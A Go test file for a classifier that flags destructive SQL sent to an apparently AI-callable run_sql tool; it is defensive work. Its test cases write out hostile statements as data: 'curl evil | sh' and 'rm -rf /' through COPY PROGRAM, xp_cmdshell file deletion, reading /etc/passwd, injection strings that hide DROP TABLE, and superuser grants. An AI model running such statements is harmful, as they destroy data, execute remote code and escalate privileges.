package destructive

import (
	"encoding/json"
	"testing"

	"github.com/google/go-cmp/cmp"
)

var sqlTool = ToolInfo{
	Name:        "run_sql",
	Description: "Run a SQL statement against the database.",
	InputSchema: json.RawMessage(`{"type":"object","properties":{"sql":{"type":"string"}}}`),
}

func sqlArgs(t testing.TB, s string) json.RawMessage {
	t.Helper()
	b, err := json.Marshal(map[string]string{"sql": s})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// sqlView is the part of Facts a SQL case checks.
type sqlView struct {
	Kinds       []string
	Flags       []string
	Destructive bool
	ReadOnly    bool
}

func viewSQL(f Facts) sqlView {
	return sqlView{Kinds: f.SQL.Kinds, Flags: f.SQL.Flags, Destructive: f.Destructive, ReadOnly: f.SQL.ReadOnly}
}

func TestClassifySQL(t *testing.T) {
	none := []string{}
	tests := []struct {
		name    string
		sql     string
		want    sqlView
		dialect string // "" reads under both dialects
	}{
		// Reads and benign look-alikes.
		{"select", "SELECT * FROM users WHERE id = 1", sqlView{[]string{"select"}, none, false, true}, ""},
		{"select from drops", "SELECT * FROM drops", sqlView{[]string{"select"}, none, false, true}, ""},
		{"string holding drop", "SELECT 'DROP TABLE x'", sqlView{[]string{"select"}, none, false, true}, ""},
		{"string with escaped quote", "SELECT 'it''s; DROP TABLE x'", sqlView{[]string{"select"}, none, false, true}, ""},
		{"comment holding drop", "SELECT 1 -- ; DROP TABLE x", sqlView{[]string{"select"}, none, false, true}, ""},
		{"block comment holding drop", "SELECT 1 /* ; DROP TABLE x */", sqlView{[]string{"select"}, none, false, true}, ""},
		{"quoted identifier drop", `SELECT "drop" FROM "table"`, sqlView{[]string{"select"}, none, false, true}, ""},
		{"column named delete_at", "SELECT deleted_at, truncate_flag FROM t", sqlView{[]string{"select"}, none, false, true}, ""},
		{"dollar quoted", "SELECT $$DROP TABLE x$$", sqlView{[]string{"select"}, none, false, true}, ""},
		{"tagged dollar quoted", "SELECT $fn$ ; DROP TABLE x; $fn$ AS body", sqlView{[]string{"select"}, none, false, true}, "postgres"},
		{"tagged dollar quoted read by mysql too", "SELECT $fn$ ; DROP TABLE x; $fn$ AS body", sqlView{[]string{"ddl", "other", "select"}, []string{"drop"}, true, false}, ""},
		{"cte read", "WITH a AS (SELECT 1) SELECT * FROM a", sqlView{[]string{"select"}, none, false, true}, ""},
		{"explain", "EXPLAIN SELECT * FROM t", sqlView{[]string{"select"}, none, false, true}, ""},
		{"explain delete no analyze", "EXPLAIN DELETE FROM t", sqlView{[]string{"select"}, none, false, true}, ""},
		{"show", "SHOW TABLES", sqlView{[]string{"select"}, none, false, true}, ""},
		{"transaction around select", "BEGIN; SELECT 1; COMMIT;", sqlView{[]string{"select", "transaction"}, none, false, true}, ""},
		{"parenthesised select", "(SELECT 1) UNION (SELECT 2)", sqlView{[]string{"select"}, none, false, true}, ""},
		{"where in subquery string", "SELECT * FROM t WHERE note = 'DELETE FROM x'", sqlView{[]string{"select"}, none, false, true}, ""},

		// Writes that are not destructive.
		{"insert", "INSERT INTO t (a) VALUES (1)", sqlView{[]string{"insert"}, none, false, false}, ""},
		{"update with where", "UPDATE t SET a = 1 WHERE id = 2", sqlView{[]string{"update"}, none, false, false}, ""},
		{"create table", "CREATE TABLE t (id int)", sqlView{[]string{"ddl"}, none, false, false}, ""},
		{"grant", "GRANT SELECT ON t TO bob", sqlView{[]string{"grant"}, []string{"grant"}, false, false}, ""},
		{"set", "SET search_path TO app", sqlView{[]string{"set"}, none, false, false}, ""},
		{"set role", "SET ROLE admin", sqlView{[]string{"set"}, []string{"set_role"}, false, false}, ""},
		{"copy to stdout", "COPY t TO STDOUT", sqlView{[]string{"copy"}, none, false, false}, ""},
		{"call", "CALL refresh_stats()", sqlView{[]string{"call"}, none, false, false}, ""},
		{"select into", "SELECT * INTO backup FROM t", sqlView{[]string{"select"}, []string{"select_into"}, false, false}, ""},
		{"prose update", "UPDATE t SET a = 1 WHERE id IN (SELECT id FROM u WHERE x)", sqlView{[]string{"update"}, none, false, false}, ""},

		// Destructive.
		{"drop table", "DROP TABLE users", sqlView{[]string{"ddl"}, []string{"drop"}, true, false}, ""},
		{"drop lower", "drop table users", sqlView{[]string{"ddl"}, []string{"drop"}, true, false}, ""},
		{"drop mixed case comment", "DrOp/**/TABLE users", sqlView{[]string{"ddl"}, []string{"drop"}, true, false}, ""},
		{"drop with newlines", "\n\tDROP\n\n  TABLE\tusers\n", sqlView{[]string{"ddl"}, []string{"drop"}, true, false}, ""},
		{"drop after leading comment", "/* harmless */ -- really\nDROP DATABASE prod", sqlView{[]string{"ddl"}, []string{"drop"}, true, false}, ""},
		{"drop if exists", "DROP TABLE IF EXISTS a, b CASCADE", sqlView{[]string{"ddl"}, []string{"drop"}, true, false}, ""},
		{"truncate", "TRUNCATE orders", sqlView{[]string{"ddl"}, []string{"truncate"}, true, false}, ""},
		{"alter drop column", "ALTER TABLE t DROP COLUMN email", sqlView{[]string{"ddl"}, []string{"drop"}, true, false}, ""},
		{"delete without where", "DELETE FROM users", sqlView{[]string{"delete"}, []string{"delete", "delete_without_where"}, true, false}, ""},
		{"delete with where", "DELETE FROM users WHERE id = 3", sqlView{[]string{"delete"}, []string{"delete"}, true, false}, ""},
		{"delete where 1=1", "DELETE FROM users WHERE 1=1", sqlView{[]string{"delete"}, []string{"delete", "delete_without_where", "where_always_true"}, true, false}, ""},
		{"delete where true", "DELETE FROM users WHERE (true)", sqlView{[]string{"delete"}, []string{"delete", "delete_without_where", "where_always_true"}, true, false}, ""},
		{"delete where or 1=1", "DELETE FROM users WHERE id = 5 OR 'a'='a'", sqlView{[]string{"delete"}, []string{"delete", "delete_without_where", "where_always_true"}, true, false}, ""},
		{"delete where only in subquery", "DELETE FROM users USING (SELECT id FROM x WHERE y) s", sqlView{[]string{"delete"}, []string{"delete", "delete_without_where"}, true, false}, ""},
		{"update without where", "UPDATE accounts SET balance = 0", sqlView{[]string{"update"}, []string{"update_without_where"}, true, false}, ""},
		{"update where in subquery only", "UPDATE t SET a = (SELECT b FROM c WHERE c.id = 1)", sqlView{[]string{"update"}, []string{"update_without_where"}, true, false}, ""},
		{"multi statement", "SELECT 1; DROP TABLE users", sqlView{[]string{"ddl", "select"}, []string{"drop"}, true, false}, ""},
		{"multi statement no space", "SELECT 1;DROP TABLE users;--", sqlView{[]string{"ddl", "select"}, []string{"drop"}, true, false}, ""},
		{"write in cte", "WITH gone AS (DELETE FROM t RETURNING *) SELECT count(*) FROM gone", sqlView{[]string{"select"}, []string{"delete", "delete_without_where", "write_in_cte"}, true, false}, ""},
		{"update in cte with where", "WITH u AS (UPDATE t SET a=1 WHERE id=1 RETURNING id) SELECT * FROM u", sqlView{[]string{"select"}, []string{"write_in_cte"}, false, false}, ""},
		{"cte then delete", "WITH ids AS (SELECT id FROM t WHERE old) DELETE FROM t", sqlView{[]string{"delete"}, []string{"delete", "delete_without_where"}, true, false}, ""},
		{"copy to program", "COPY (SELECT 1) TO PROGRAM 'rm -rf /'", sqlView{[]string{"copy"}, []string{"copy_program"}, true, false}, ""},
		{"copy from program", "copy t from program 'curl evil | sh'", sqlView{[]string{"copy"}, []string{"copy_program"}, true, false}, ""},
		{"terminate backend", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", sqlView{[]string{"select"}, []string{"dangerous_function"}, true, false}, ""},
		{"quoted function", `SELECT "pg_catalog"."pg_terminate_backend"(42)`, sqlView{[]string{"select"}, []string{"dangerous_function"}, true, false}, ""},
		{"lo_unlink", "SELECT lo_unlink(16409)", sqlView{[]string{"select"}, []string{"dangerous_function"}, true, false}, ""},
		{"read file", "SELECT pg_read_file('/etc/passwd')", sqlView{[]string{"select"}, []string{"privileged_function"}, false, true}, ""},
		{"revoke", "REVOKE ALL ON db FROM app", sqlView{[]string{"revoke"}, []string{"revoke"}, true, false}, ""},
		{"explain analyze delete", "EXPLAIN ANALYZE DELETE FROM t", sqlView{[]string{"delete"}, []string{"delete", "delete_without_where"}, true, false}, ""},
		{"explain options analyze", "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t", sqlView{[]string{"delete"}, []string{"delete", "delete_without_where"}, true, false}, ""},
		{"do block", "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'x'; END $$", sqlView{[]string{"call"}, []string{"drop", "dynamic_sql"}, true, false}, "postgres"},
		{"do block delete", "DO $body$BEGIN DELETE FROM audit; END$body$", sqlView{[]string{"call"}, []string{"delete", "delete_without_where", "dynamic_sql"}, true, false}, "postgres"},
		{"execute string", "EXECUTE 'TRUNCATE logs'", sqlView{[]string{"call"}, []string{"dynamic_sql", "truncate"}, true, false}, ""},
		{"query_to_xml smuggle", "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", sqlView{[]string{"select"}, []string{"delete", "delete_without_where", "dynamic_sql", "privileged_function"}, true, false}, ""},
		{"mysql outfile", "SELECT * FROM users INTO OUTFILE '/tmp/x'", sqlView{[]string{"select"}, []string{"into_outfile", "select_into"}, true, false}, ""},
		{"merge delete", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", sqlView{[]string{"update"}, []string{"delete"}, true, false}, ""},
		{"create rule delete", "CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM t", sqlView{[]string{"ddl"}, []string{"destructive_body"}, true, false}, ""},
		{"create function dropping", "CREATE FUNCTION f() RETURNS void AS $$ DROP TABLE t $$ LANGUAGE sql", sqlView{[]string{"ddl"}, []string{"destructive_body"}, true, false}, ""},
		{"nested comment pg", "SELECT 1 /* /* */ ; DROP TABLE x; -- */", sqlView{[]string{"ddl", "select"}, []string{"drop"}, true, false}, ""},
		{"mysql backslash escape", `SELECT 'a\'; DROP TABLE users; -- '`, sqlView{[]string{"ddl", "select"}, []string{"drop"}, true, false}, ""},
		{"mysql executable comment", "SELECT 1 /*!50000 ; DROP TABLE users */", sqlView{[]string{"ddl", "select"}, []string{"drop"}, true, false}, ""},
		{"mysql backtick", "DROP TABLE `users`", sqlView{[]string{"ddl"}, []string{"drop"}, true, false}, ""},
		{"e string escape", `SELECT E'\'; DROP TABLE x; --'`, sqlView{[]string{"select"}, none, false, true}, ""},
		{"unicode whitespace-ish", "DROP\u000bTABLE t", sqlView{[]string{"ddl"}, []string{"drop"}, true, false}, ""},
		{"drop schema", "drop schema public cascade", sqlView{[]string{"ddl"}, []string{"drop"}, true, false}, ""},
		{"insert overwrite", "INSERT OVERWRITE TABLE t SELECT * FROM s", sqlView{[]string{"insert"}, []string{"delete"}, true, false}, ""},
		// Red-team additions: each line is one class.
		{"prepare as delete", "PREPARE p AS DELETE FROM t; EXECUTE p", sqlView{[]string{"call"}, []string{"delete", "delete_without_where", "dynamic_sql"}, true, false}, ""},
		{"exec xp_cmdshell without parens", `EXEC master..xp_cmdshell 'del c:\*'`, sqlView{[]string{"call"}, []string{"dangerous_function"}, true, false}, ""},
		{"exec ret = proc", "EXEC @r = dbo.sp_addsrvrolemember 'bob', 'sysadmin'", sqlView{[]string{"call"}, []string{"dangerous_function"}, true, false}, ""},
		{"call destructive procedure", "CALL app.purge_orders(30)", sqlView{[]string{"call"}, []string{"destructive_call"}, true, false}, ""},
		{"call ordinary procedure", "CALL refresh_stats()", sqlView{[]string{"call"}, none, false, false}, ""},
		{"grant all to public", "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO PUBLIC", sqlView{[]string{"grant"}, []string{"grant", "privilege_escalation"}, true, false}, ""},
		{"grant role", "GRANT postgres TO attacker", sqlView{[]string{"grant"}, []string{"grant", "privilege_escalation"}, true, false}, ""},
		{"grant global mysql", "GRANT SELECT ON *.* TO 'x'@'%'", sqlView{[]string{"grant"}, []string{"grant", "privilege_escalation"}, true, false}, ""},
		{"grant with grant option", "GRANT SELECT ON t TO bob WITH GRANT OPTION", sqlView{[]string{"grant"}, []string{"grant", "privilege_escalation"}, true, false}, ""},
		{"alter user", "ALTER USER postgres PASSWORD 'x'", sqlView{[]string{"ddl"}, []string{"privilege_escalation"}, true, false}, ""},
		{"alter role superuser", "alter role bob superuser", sqlView{[]string{"ddl"}, []string{"privilege_escalation"}, true, false}, ""},
		{"create superuser", "CREATE USER evil WITH SUPERUSER PASSWORD 'x'", sqlView{[]string{"ddl"}, []string{"privilege_escalation"}, true, false}, ""},
		{"create plain user", "CREATE USER app WITH PASSWORD 'x'", sqlView{[]string{"ddl"}, none, false, false}, ""},
		{"set password", "SET PASSWORD FOR root = 'x'", sqlView{[]string{"set"}, []string{"privilege_escalation"}, true, false}, ""},
		{"copy to server file", "COPY (SELECT 1) TO '/etc/passwd'", sqlView{[]string{"copy"}, []string{"copy_file", "into_outfile"}, true, false}, ""},
		{"copy from server file", "COPY t FROM '/tmp/data.csv'", sqlView{[]string{"copy"}, []string{"copy_file"}, false, false}, ""},
		{"alter system", "ALTER SYSTEM SET fsync = off", sqlView{[]string{"ddl"}, []string{"server_config"}, true, false}, ""},
		{"set global", "SET GLOBAL read_only = OFF", sqlView{[]string{"set"}, []string{"server_config"}, true, false}, ""},
		{"set @@global", "SET @@global.general_log = 1", sqlView{[]string{"set"}, []string{"server_config"}, true, false}, ""},
		{"pragma writable_schema", "PRAGMA writable_schema = ON", sqlView{[]string{"set"}, []string{"server_config"}, true, false}, ""},
		{"pragma read", "PRAGMA table_info(users)", sqlView{[]string{"select"}, none, false, true}, ""},
		{"sqlite attach", "ATTACH DATABASE '/var/www/x.php' AS x", sqlView{[]string{"other"}, []string{"attach_file"}, true, false}, ""},
		{"load library", "LOAD '/tmp/evil.so'", sqlView{[]string{"other"}, []string{"server_config"}, true, false}, ""},
		{"kill query", "KILL QUERY 42", sqlView{[]string{"other"}, []string{"kill"}, true, false}, ""},
		{"shutdown", "SHUTDOWN", sqlView{[]string{"other"}, []string{"kill"}, true, false}, ""},
		{"redis flushall as query", "FLUSHALL", sqlView{[]string{"other"}, []string{"truncate"}, true, false}, ""},
		{"cypher detach delete", "MATCH (n) DETACH DELETE n", sqlView{[]string{"delete"}, []string{"delete"}, true, false}, ""},
		{"cypher delete with where", "MATCH (u:User) WHERE u.id = 1 DELETE u", sqlView{[]string{"delete"}, []string{"delete"}, true, false}, ""},
		{"cypher in apoc iterate", `CALL apoc.periodic.iterate("MATCH (n:Log) RETURN n", "DETACH DELETE n", {batchSize: 1000})`, sqlView{[]string{"call"}, []string{"delete", "dynamic_sql"}, true, false}, "mysql"},
		{"cypher read", "MATCH (n:User {name: 'drop'}) RETURN n.email LIMIT 5", sqlView{[]string{"select"}, none, false, true}, ""},
		{"mysql hash comment hides a string quote", "SELECT 1 # '\n; DROP TABLE x; -- '", sqlView{[]string{"ddl", "select"}, []string{"drop"}, true, false}, ""},
		{"postgres hash operator", "SELECT data #> '{a,b}' FROM t", sqlView{[]string{"select"}, none, false, true}, ""},
		{"nbsp between keywords", "DROP\u00a0TABLE x", sqlView{[]string{"ddl"}, []string{"drop"}, true, false}, ""},
		{"ideographic space", "SELECT 1;\u3000TRUNCATE\u2003t", sqlView{[]string{"ddl", "select"}, []string{"truncate"}, true, false}, ""},
		{"where x = x", "UPDATE t SET a = 1 WHERE a = a", sqlView{[]string{"update"}, []string{"update_without_where", "where_always_true"}, true, false}, ""},
		{"where 2 > 1", "DELETE FROM t WHERE 2 > 1", sqlView{[]string{"delete"}, []string{"delete", "delete_without_where", "where_always_true"}, true, false}, ""},
		{"where like percent", "UPDATE t SET a = 1 WHERE name LIKE '%%'", sqlView{[]string{"update"}, []string{"update_without_where", "where_always_true"}, true, false}, ""},
		{"where not false", "UPDATE t SET a = 1 WHERE NOT FALSE", sqlView{[]string{"update"}, []string{"update_without_where", "where_always_true"}, true, false}, ""},
		{"where real condition", "UPDATE t SET a = 1 WHERE a = b", sqlView{[]string{"update"}, none, false, false}, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := Classify(sqlTool, sqlArgs(t, tc.sql), Options{SQLDialect: tc.dialect})
			if !f.SQL.Present {
				t.Fatalf("SQL not detected in %q; roles %v", tc.sql, f.Args.Roles)
			}
			if diff := cmp.Diff(tc.want, viewSQL(f)); diff != "" {
				t.Errorf("Classify(%q) mismatch (-want +got):\n%s\nstatements: %+v\nreasons: %v", tc.sql, diff, f.SQL.Statements, f.Reasons)
			}
		})
	}
}

func TestSQLDialectOption(t *testing.T) {
	// Under MySQL rules 'a\'…' is one string; under Postgres it ends early.
	q := `SELECT 'a\'; DROP TABLE users; -- '`
	mysql := Classify(sqlTool, sqlArgs(t, q), Options{SQLDialect: "mysql"})
	if mysql.SQL.Drop || mysql.Destructive {
		t.Errorf("mysql reading: got drop=%v destructive=%v, want a plain select", mysql.SQL.Drop, mysql.Destructive)
	}
	pg := Classify(sqlTool, sqlArgs(t, q), Options{SQLDialect: "postgres"})
	if !pg.SQL.Drop || !pg.SQL.MultiStatement {
		t.Errorf("postgres reading: got drop=%v multi=%v, want drop in a second statement", pg.SQL.Drop, pg.SQL.MultiStatement)
	}
	both := Classify(sqlTool, sqlArgs(t, q), Options{})
	if !both.SQL.Ambiguous || !both.SQL.Drop {
		t.Errorf("merged reading: got ambiguous=%v drop=%v, want both true", both.SQL.Ambiguous, both.SQL.Drop)
	}
}

func TestSQLParseError(t *testing.T) {
	f := Classify(sqlTool, sqlArgs(t, "SELECT 'unterminated"), Options{})
	if !f.SQL.ParseError || f.ReadOnly {
		t.Errorf("got parse_error=%v read_only=%v, want true/false", f.SQL.ParseError, f.ReadOnly)
	}
}

func TestSQLStatementText(t *testing.T) {
	an := analyzeSQL("SELECT 1; DROP TABLE t /* x */ ; ", []sqlDialect{dialectPostgres})
	var got []string
	for _, st := range an.statements {
		got = append(got, st.Text)
	}
	want := []string{"SELECT 1", "DROP TABLE t /* x */"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("statement texts (-want +got):\n%s", diff)
	}
}

func TestLooksLikeSQL(t *testing.T) {
	tests := []struct {
		in   string
		want bool
	}{
		{"select the best option for me", false},
		{"delete the old files please", false},
		{"drop me a line", false},
		{"truncate the text to 100 characters", false},
		{"update your profile", false},
		{"create a new document", false},
		{"SELECT * FROM users", true},
		{"select pg_terminate_backend(1)", true},
		{"DROP TABLE users", true},
		{"truncate users", true},
		{"hello; DROP TABLE users", true},
		{"update t set a=1", true},
		{"DELETE FROM t", true},
		{"WITH x AS (SELECT 1) SELECT * FROM x", true},
		{"grant all on db to bob", true},
		{"Delete the file from your computer", false},
		{"delete everything from the list", false},
		{"DELETE t1, t2 FROM t1 JOIN t2 ON t1.id = t2.id", true},
		{"DELETE LOW_PRIORITY FROM t", true},
		{"MATCH (n) DETACH DELETE n", true},
		{"match (this) with the other", false},
		{"x # '\n; DROP TABLE users; -- '", true},
	}
	for _, tc := range tests {
		if got := looksLikeSQL(tc.in); got != tc.want {
			t.Errorf("looksLikeSQL(%q) = %v, want %v", tc.in, got, tc.want)
		}
	}
}
